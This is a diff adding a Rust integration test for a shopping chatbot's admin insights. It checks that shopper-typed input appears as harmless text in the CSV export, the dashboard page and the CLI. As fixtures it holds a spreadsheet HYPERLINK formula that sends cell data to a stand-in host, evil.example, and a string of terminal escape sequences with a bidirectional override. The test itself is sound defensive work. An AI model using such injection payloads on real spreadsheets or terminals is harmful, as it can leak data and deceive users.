@@ -423,3 +423,106 @@ async fn seeded_conversations_and_events_give_exact_figures_that_survive_a_resta
     );
     app.stop().await;
 }
+
+/// What a shopper types reaches the merchandiser's sheet, page and terminal as text: a formula stays text in the
+/// CSV, and escape sequences and bidirectional overrides never reach a terminal or a page.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn typed_formulas_and_escape_sequences_reach_the_figures_as_harmless_text() {
+    let app = spawn_with(tempfile::tempdir().expect("temp dir"), settings()).await;
+    let mut client = app.client().await;
+    client
+        .send(json!({"type": "start", "flow": "running-shoes", "locale": "en", "visitor": "vh"}))
+        .await;
+    client.until("question").await;
+    for typed in [
+        r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#,
+        "zz\u{1b}]0;pwned\u{7}\u{1b}[31mred\u{202e}abc",
+    ] {
+        let again = client.answer(json!({"text": typed})).await;
+        assert_eq!(again["id"], "terrain", "not understood: {again}");
+    }
+    let body = report(&app, "?since=1d").await;
+    let texts: Vec<&str> = body["not_understood"]
+        .as_array()
+        .expect("rows")
+        .iter()
+        .filter_map(|r| r["text"].as_str())
+        .collect();
+    let formula = r#"=hyperlink("http://evil.example/?x="&a1,"click")"#;
+    assert!(
+        texts.contains(&formula),
+        "the API gives it as typed: {texts:?}"
+    );
+    assert!(
+        texts.contains(&"zz\u{fffd}]0;pwned\u{fffd}\u{fffd}[31mred\u{fffd}abc"),
+        "{texts:?}"
+    );
+
+    let auth = format!("Bearer {ADMIN}");
+    let csv = http_raw(
+        app.addr,
+        "GET",
+        "/admin/insights/running-shoes/not_understood.csv?since=1d",
+        &[("Authorization", &auth)],
+    )
+    .await;
+    let csv = String::from_utf8_lossy(&csv.body).to_string();
+    assert!(
+        csv.lines()
+            .any(|l| l == r#"terrain,"'=hyperlink(""http://evil.example/?x=""&a1,""click"")",1"#),
+        "the formula is text in a spreadsheet: {csv}"
+    );
+
+    let page = http_raw(
+        app.addr,
+        "GET",
+        "/admin/dashboard/running-shoes?since=1d",
+        &[("Authorization", &auth)],
+    )
+    .await;
+    let html = String::from_utf8_lossy(&page.body).to_string();
+    assert!(html.contains("pwned"), "the text is shown");
+    assert!(
+        !html.contains('\u{1b}') && !html.contains('\u{202e}') && !html.contains('\u{7}'),
+        "{html}"
+    );
+
+    let printed = cli(&[
+        "running-shoes",
+        "--since",
+        "2d",
+        "--rows",
+        "5",
+        "--server",
+        &app.url(),
+        "--admin-token",
+        ADMIN,
+    ])
+    .await
+    .expect("shopkeep insights prints");
+    assert!(printed.contains(formula), "{printed}");
+    assert!(
+        !printed.contains('\u{1b}') && !printed.contains('\u{202e}') && !printed.contains('\u{7}'),
+        "{printed:?}"
+    );
+    // Two days are hourly buckets, more than five: the latest five are shown, this hour's last.
+    let series: Vec<&str> = printed
+        .lines()
+        .skip_while(|l| !l.starts_with("series"))
+        .take_while(|l| !l.is_empty())
+        .collect();
+    assert!(
+        series[0].starts_with("series (the latest 5 of "),
+        "{series:?}"
+    );
+    assert_eq!(series.len(), 7, "title, header, five rows: {series:?}");
+    let started: u64 = series[2..]
+        .iter()
+        .filter_map(|l| l.split_whitespace().nth(2)?.parse::<u64>().ok())
+        .sum();
+    assert_eq!(
+        started, 1,
+        "the conversation of this hour is among them: {series:?}"
+    );
+    app.stop().await;
+}
